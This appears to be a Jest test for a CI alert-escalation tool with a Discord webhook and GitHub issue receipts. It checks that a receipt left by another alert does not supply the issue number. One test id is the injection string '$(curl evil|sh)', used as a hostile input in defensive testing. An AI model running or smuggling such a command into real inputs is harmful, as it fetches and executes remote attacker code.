import { expect, test } from '@jest/globals'
import { discordSim, drawn, memory, minuteMs, monday, step } from './testing.ts'

const isBook = (key: string) => key.startsWith('receipts/')

test.each(['42', '$(curl evil|sh)'])('what others left over names no issue, %s neither', async (id) => {
  const ledger = memory()
  const keys = new Set<string>()
  const noting: typeof ledger = { read: ledger.read, update: (key, fn) => ledger.update(key, fn).finally(() => keys.add(key)) }
  const { http } = discordSim()
  await step({ runs: drawn('✓✗✗✗'), about: 4, ledger: noting, http })
  const remote = { id, url: 'https://github.com/octo/app/issues/42' }
  const alert = {
    title: 't',
    severity: 'P3',
    key: 'other',
    source: 'ci',
    status: 'info',
    summary: [],
    fields: [],
    links: [],
    excerpts: [],
    labels: {}
  }
  const receipt = {
    id: 'x',
    alertKey: 'other',
    transition: 't',
    channel: 'discord-webhook',
    outcome: 'pending',
    attempts: 0,
    at: new Date(monday).toISOString(),
    remote
  }
  const planted = { receipt, alert, mentions: [] }
  for (const key of [...keys].filter(isBook)) await ledger.update(key, (book) => ({ ...(book as object), entries: [planted] }))
  const { outputs } = await step({ runs: drawn('✓✗✗✗✗✗'), about: 6, ledger, http, now: monday + 10 * minuteMs })
  expect([outputs.decision, outputs['issue-number']]).toEqual(['escalated', ''])
})
